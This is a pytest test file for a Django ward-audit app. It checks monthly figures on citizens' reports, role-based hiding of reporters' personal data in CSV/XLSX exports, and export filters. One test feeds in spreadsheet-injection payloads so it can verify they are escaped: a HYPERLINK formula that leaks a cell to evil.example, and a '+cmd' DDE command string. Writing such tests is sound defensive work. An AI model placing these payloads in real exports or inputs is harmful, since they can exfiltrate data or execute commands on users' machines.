"""Citizens' reports in the audit: the month's figures per ward (page, API, exports) and
the export of the reports themselves, with the reporter's details only for the ward's staff.

Today is Monday 16/03/2026 (Asia/Ho_Chi_Minh). Every figure is recomputed here,
in Python, from the rows.
"""

from __future__ import annotations

import csv
import datetime
import io
import random
import re
import zipfile
from dataclasses import dataclass
from typing import Any
from zoneinfo import ZoneInfo

import openpyxl
import pytest
import time_machine
from django.test import Client
from django.urls import reverse

from backend.accounts.models import Role
from backend.intake.models import OPEN_STATUSES, Tip, TipStatus
from backend.reports.coverage import month_of
from backend.reports.tip_exports import tip_rows
from backend.reports.tip_figures import tip_figures
from tests.factories import CaseFactory, UserFactory
from tests.intake.conftest import file_tip

pytestmark = pytest.mark.django_db
HCM = ZoneInfo("Asia/Ho_Chi_Minh")
TODAY = datetime.date(2026, 3, 16)
NOW = datetime.datetime(2026, 3, 16, 9, 30, tzinfo=HCM)
WARDS = [("90001", "Phường A"), ("90002", "Phường B")]
FIELDS = ("received", "open", "overdue", "answered", "answered_on_time", "led_to_case")
PERSONAL = ("Nguyễn Văn Dân", "0901234567", "dan@example.com")  # as stored


def _file(ward: str, **fields: Any) -> Tip:
    where = {"lat": 10.7705, "lon": 106.6905} if ward == "A" else {"lat": 10.77, "lon": 106.71}
    return file_tip(**where, **fields)


def _set(tip: Tip, **fields: Any) -> Tip:
    Tip.objects.filter(pk=tip.pk).update(**fields)
    return Tip.objects.get(pk=tip.pk)


@dataclass
class Drawn:
    tips: list[Tip]


@pytest.fixture
def drawn(ward_a: Any, ward_b: Any, inspector_a: Any) -> Drawn:
    """Tips of both wards received over two months, in every status."""
    rng = random.Random(15)
    statuses = list(TipStatus)
    tips: list[Tip] = []
    for i in range(50):
        ward = rng.choice("AB")
        received = NOW - datetime.timedelta(hours=rng.randint(0, 24 * 50))
        status = rng.choice(statuses)
        due = received.astimezone(HCM).date() + datetime.timedelta(days=rng.randint(3, 14))
        settled = None
        case = None
        if status not in OPEN_STATUSES:
            settled = min(NOW, received + datetime.timedelta(hours=rng.randint(1, 24 * 20)))
        if status == TipStatus.CASE_OPENED:
            case = CaseFactory(ward=ward_a if ward == "A" else ward_b, opened_by=inspector_a)
        tip = _file(ward, submission_key=f"k{i}")
        tips.append(
            _set(
                tip,
                received_at=received,
                status=status,
                response_due_on=due,
                settled_at=settled,
                case=case,
            )
        )
    return Drawn(tips)


def recompute(codes: set[str], today: datetime.date) -> dict[str, dict[str, int]]:
    first, last = month_of(today)
    out: dict[str, dict[str, int]] = {}
    for code in sorted(codes):
        rows = [t for t in Tip.objects.select_related("ward") if t.ward.code == code]

        def in_month(moment: datetime.datetime | None) -> bool:
            return moment is not None and first <= moment.astimezone(HCM).date() <= last

        answered = [t for t in rows if in_month(t.settled_at)]
        waiting = [t for t in rows if t.status in OPEN_STATUSES]
        out[code] = {
            "received": sum(1 for t in rows if in_month(t.received_at)),
            "open": len(waiting),
            "overdue": sum(1 for t in waiting if t.response_due_on < today),
            "answered": len(answered),
            "answered_on_time": sum(
                1
                for t in answered
                if t.settled_at is not None
                and t.settled_at.astimezone(HCM).date() <= t.response_due_on
            ),
            "led_to_case": sum(
                1 for t in answered if t.status == TipStatus.CASE_OPENED and t.case_id is not None
            ),
        }
    return out


def as_dict(row: Any) -> dict[str, int]:
    return {key: getattr(row, key) for key in FIELDS}


def test_the_figures_match_the_rows_recomputed_in_python(drawn: Drawn, auditor: Any) -> None:
    figures = tip_figures(auditor, WARDS, today=TODAY)
    expected = recompute({"90001", "90002"}, TODAY)
    # A draw where every figure has something to count.
    assert all(e[key] > 0 for e in expected.values() for key in FIELDS), expected
    assert {w.code: as_dict(w) for w in figures.wards} == expected
    assert as_dict(figures.city) == {k: sum(e[k] for e in expected.values()) for k in FIELDS}
    assert figures.month == "2026-03"
    # Another month, other figures: April has received nothing yet.
    april = tip_figures(auditor, WARDS, today=datetime.date(2026, 4, 2))
    assert april.city.received == 0
    assert {w.code: as_dict(w) for w in april.wards} == recompute(
        {"90001", "90002"}, datetime.date(2026, 4, 2)
    )


def test_the_month_turns_at_midnight_in_ho_chi_minh_city(ward_a: Any, auditor: Any) -> None:
    # 31/03 23:30 in UTC is 01/04 06:30 local: April's.
    late = _set(_file("A"), received_at=datetime.datetime(2026, 3, 31, 23, 30, tzinfo=datetime.UTC))
    assert late.pk
    assert tip_figures(auditor, WARDS, today=TODAY).city.received == 0
    assert tip_figures(auditor, WARDS, today=datetime.date(2026, 4, 1)).city.received == 1


def test_a_ward_with_no_tip_has_its_row_of_zeros_and_a_user_without_ward_sees_none(
    ward_a: Any, drawn: Drawn
) -> None:
    nobody = UserFactory(username="no-ward", role=Role.INSPECTOR)
    figures = tip_figures(nobody, WARDS[:1], today=TODAY)
    assert as_dict(figures.wards[0]) == dict.fromkeys(FIELDS, 0)
    assert as_dict(figures.city) == dict.fromkeys(FIELDS, 0)


def test_the_figures_take_one_query(
    drawn: Drawn, auditor: Any, django_assert_max_num_queries: Any
) -> None:
    with django_assert_max_num_queries(1):
        tip_figures(auditor, WARDS, today=TODAY)


@pytest.fixture
def leader_b(ward_b: Any) -> Any:
    return UserFactory(username="leader_b", role=Role.WARD_LEADER, wards=[ward_b])


@time_machine.travel(NOW, tick=False)
@pytest.mark.parametrize(
    ("who", "wards"),
    [
        ("inspector_a", {"90001"}),
        ("leader_a", {"90001"}),
        ("leader_b", {"90002"}),
        ("auditor", {"90001", "90002"}),
        ("admin_user", {"90001", "90002"}),
    ],
)
def test_each_role_sees_its_wards_figures_in_the_page_the_api_and_the_exports(
    request: Any, drawn: Drawn, who: str, wards: set[str]
) -> None:
    client = Client()
    client.force_login(request.getfixturevalue(who))
    expected = recompute(wards, TODAY)

    html = client.get(reverse("audit_dashboard")).content.decode()
    section = html.split('id="tips"')[1].split("</section>")[0]
    for code in ("90001", "90002"):
        assert (f'<tr data-ward="{code}">' in section) == (code in wards)
    for code in wards:
        row = section.split(f'<tr data-ward="{code}">')[1].split("</tr>")[0]
        cells = [re.sub(r"<[^>]+>", "", "<td" + c).strip() for c in row.split("<td")[1:]]
        assert [int(c) for c in cells] == [expected[code][k] for k in FIELDS]
    assert reverse("audit_export", args=["tips", "csv"]) in section
    assert "Phản ánh của người dân, tháng 03/2026" in section and "Dẫn đến hồ sơ vi phạm" in section

    data = client.get(reverse("api-audit-dashboard")).json()["tips"]
    assert {w["code"] for w in data["wards"]} == wards
    for w in data["wards"]:
        assert {k: w[k] for k in FIELDS} == expected[w["code"]]
    assert data["city"]["received"] == sum(e["received"] for e in expected.values())

    response = client.get(reverse("audit_export", args=["tip-figures", "csv"]))
    assert response.status_code == 200 and response.streaming
    rows = list(
        csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig")))
    )
    by_code = {r["Mã phường"]: r for r in rows}
    assert set(by_code) == wards | {""}
    for code in wards:
        assert int(by_code[code]["Số phản ánh tiếp nhận trong tháng"]) == expected[code]["received"]
        assert int(by_code[code]["Số phản ánh quá hạn trả lời"]) == expected[code]["overdue"]
        assert (
            int(by_code[code]["Số phản ánh dẫn đến hồ sơ vi phạm"]) == expected[code]["led_to_case"]
        )


@time_machine.travel(NOW, tick=False)
def test_the_figures_xlsx_has_the_same_figures(drawn: Drawn, auditor: Any) -> None:
    client = Client()
    client.force_login(auditor)
    response = client.get(reverse("audit_export", args=["tip-figures", "xlsx"]), {"ward": "90001"})
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    header, *rows = [list(r) for r in book.worksheets[0].iter_rows(values_only=True)]
    assert len(rows) == 2  # ward A, then all wards shown
    row = dict(zip(header, rows[0], strict=True))
    expected = recompute({"90001"}, TODAY)["90001"]
    assert row["Tháng"] == "03/2026" and row["Phường"] == "Phường A"
    assert row["Số phản ánh đã trả lời trong tháng"] == expected["answered"]
    assert row["Số phản ánh trả lời đúng hạn"] == expected["answered_on_time"]
    assert row["Số liệu tính đến ngày"].date() == TODAY


# --- The export of the reports themselves --------------------------------------------
def _export(user: Any, fmt: str = "csv", **params: str) -> Any:
    client = Client()
    if user is not None:
        client.force_login(user)
    return client.get(reverse("audit_export", args=["tips", fmt]), params)


def _body(response: Any) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _csv(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200, response.content[:300]
    return list(csv.DictReader(io.StringIO(_body(response).decode("utf-8-sig"))))


@pytest.fixture
def two(ward_a: Any, ward_b: Any, inspector_a: Any) -> dict[str, Tip]:
    a = _file("A")
    case = CaseFactory(ward=ward_a, opened_by=inspector_a, code="HS-2026-0001")
    a = _set(
        a,
        response_due_on=TODAY - datetime.timedelta(days=1),
        received_at=NOW - datetime.timedelta(days=20),
    )
    answered = _set(
        _file("A", category="no_permit", submission_key="x"),
        status=TipStatus.CASE_OPENED,
        case=case,
        settled_at=NOW - datetime.timedelta(days=2),
        received_at=NOW - datetime.timedelta(days=5),
    )
    b = _set(
        _file("B", reporter_name="Trần Thị Bê", reporter_phone="0912 000 111"),
        received_at=NOW - datetime.timedelta(days=1),
    )
    return {"a": a, "answered": answered, "b": b}


@time_machine.travel(NOW, tick=False)
@pytest.mark.parametrize(
    ("who", "wards", "reporters"),
    [
        ("inspector_a", {"90001"}, True),
        ("leader_a", {"90001"}, True),
        ("inspector_b", {"90002"}, True),
        ("auditor", {"90001", "90002"}, False),
        ("admin_user", {"90001", "90002"}, False),
    ],
)
def test_the_tips_export_by_role_and_ward(
    request: Any, two: dict[str, Tip], who: str, wards: set[str], reporters: bool
) -> None:
    user = request.getfixturevalue(who)
    response = _export(user)
    assert response["Cache-Control"] == "private, no-store"
    raw = _body(response)
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert {r["Mã phường"] for r in rows} == wards
    header = raw.decode("utf-8-sig").splitlines()[0]
    assert ("Họ tên người phản ánh" in header) == reporters
    assert ("Điện thoại người phản ánh" in header) == reporters
    if reporters:
        for r in rows:
            assert r["Họ tên người phản ánh"] in ("Nguyễn Văn Dân", "Trần Thị Bê")
    else:
        # Not a column, and nowhere in the bytes.
        for value in (*PERSONAL, "Trần Thị Bê", "0912000111"):
            assert value.encode() not in raw
    if "90001" in wards:
        by_code = {r["Mã phản ánh"]: r for r in rows}
        a, answered = by_code[two["a"].code], by_code[two["answered"].code]
        assert a["Quá hạn trả lời"] == "Có" and answered["Quá hạn trả lời"] == "Không"
        assert answered["Mã hồ sơ vi phạm"] == "HS-2026-0001"
        assert answered["Mã trạng thái"] == "case_opened"
        assert a["Hạn trả lời"] == "15/03/2026"
        assert a["Số ảnh"] == "0"
        assert a["Vĩ độ (WGS 84)"] == "10.7705" and a["Kinh độ (WGS 84)"] == "106.6905"
        assert a["Địa chỉ"] == "12 Nguyễn Trãi"


@time_machine.travel(NOW, tick=False)
def test_the_tips_xlsx_for_an_auditor_has_no_personal_data(
    two: dict[str, Tip], auditor: Any, leader_a: Any
) -> None:
    response = _export(auditor, "xlsx")
    assert response.status_code == 200
    data = _body(response)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        text = "".join(archive.read(n).decode() for n in archive.namelist() if n.endswith(".xml"))
    for value in (*PERSONAL, "Trần Thị Bê"):
        assert value not in text
    assert two["b"].code in text
    book = openpyxl.load_workbook(io.BytesIO(data))
    header = next(book.worksheets[0].iter_rows(values_only=True))
    assert "Họ tên người phản ánh" not in header and header[0] == "Mã phản ánh"
    # The ward's leader gets them.
    mine = openpyxl.load_workbook(io.BytesIO(_body(_export(leader_a, "xlsx"))))
    rows = list(mine.worksheets[0].iter_rows(values_only=True))
    assert rows[0][-3:] == (
        "Họ tên người phản ánh",
        "Điện thoại người phản ánh",
        "Thư điện tử người phản ánh",
    )
    assert {r[-3] for r in rows[1:]} == {"Nguyễn Văn Dân"}


def test_reporters_are_blank_on_rows_of_wards_the_user_may_not_read(
    two: dict[str, Tip], leader_a: Any
) -> None:
    rows = {r[0]: r for r in tip_rows(leader_a, Tip.objects.all(), TODAY)}
    assert rows[two["a"].code][-3:] == list(PERSONAL)
    assert rows[two["b"].code][-3:] == ["", "", ""]


@time_machine.travel(NOW, tick=False)
def test_the_tips_export_filters(two: dict[str, Tip], auditor: Any) -> None:
    def codes(**params: str) -> set[str]:
        return {r["Mã phản ánh"] for r in _csv(_export(auditor, **params))}

    everything = {t.code for t in two.values()}
    assert codes() == everything
    assert codes(ward="90002") == {two["b"].code}
    assert codes(status="case_opened") == {two["answered"].code}
    assert codes(status="received,case_opened", ward="90001") == {
        two["a"].code,
        two["answered"].code,
    }
    assert codes(received_from="11/03/2026") == {two["answered"].code, two["b"].code}
    assert codes(received_to="2026-03-11") == {two["a"].code, two["answered"].code}
    assert codes(received_from="15/03/2026", received_to="15/03/2026") == {two["b"].code}
    for bad in ({"status": "lost"}, {"received_from": "32/13/2026"}, {"ward": "9 0"}):
        response = _export(auditor, **bad)
        assert response.status_code == 400
        assert response.json()["detail"]
    wrong_way = _export(auditor, received_from="12/03/2026", received_to="01/03/2026")
    assert wrong_way.status_code == 400


def test_anonymous_users_get_no_tips_export(two: dict[str, Tip]) -> None:
    for fmt in ("csv", "xlsx"):
        response = _export(None, fmt)
        assert response.status_code == 302 and "/login/" in response["Location"]


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Xem")'


@time_machine.travel(NOW, tick=False)
def test_typed_text_never_becomes_a_formula(two: dict[str, Tip], leader_a: Any) -> None:
    _set(two["a"], description=FORMULA, address="+cmd|' /C calc'!A0", reporter_name="@SUM(1+1)")
    rows = {r["Mã phản ánh"]: r for r in _csv(_export(leader_a))}
    row = rows[two["a"].code]
    assert row["Mô tả"] == "'" + FORMULA
    assert row["Địa chỉ"] == "'+cmd|' /C calc'!A0"
    assert row["Họ tên người phản ánh"] == "'@SUM(1+1)"
    data = _body(_export(leader_a, "xlsx"))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = "".join(
            archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")
        )
    assert "<f>" not in sheets
    book = openpyxl.load_workbook(io.BytesIO(data))
    values = [c for r in book.worksheets[0].iter_rows(values_only=True) for c in r]
    assert "'" + FORMULA in values and FORMULA not in values


def test_a_case_opened_from_a_tip_counts_as_found_from_a_citizens_report(
    ward_a: Any, inspector_a: Any, auditor: Any
) -> None:
    from backend.intake.services.triage import tip_link_case, tip_open_case
    from backend.reports.coverage import coverage_figures

    opened = tip_open_case(actor=inspector_a, tip=_file("A", submission_key="o"))
    earlier = CaseFactory(ward=ward_a, opened_by=inspector_a, code="HS-EARLIER")
    tip_link_case(actor=inspector_a, tip=_file("A", submission_key="l"), case=earlier)
    today = opened.detected_at.astimezone(HCM).date()
    coverage = coverage_figures(auditor, WARDS[:1], today=today)
    # The case opened from the tip; the earlier one a tip was only linked to is "other".
    assert (coverage.city.violations_tip, coverage.city.violations_patrol) == (1, 0)
    assert coverage.city.violations_other == 1
    figures = tip_figures(auditor, WARDS[:1], today=today)
    assert (figures.city.answered, figures.city.led_to_case, figures.city.open) == (2, 2, 0)
    assert figures.city.answered_on_time == 2
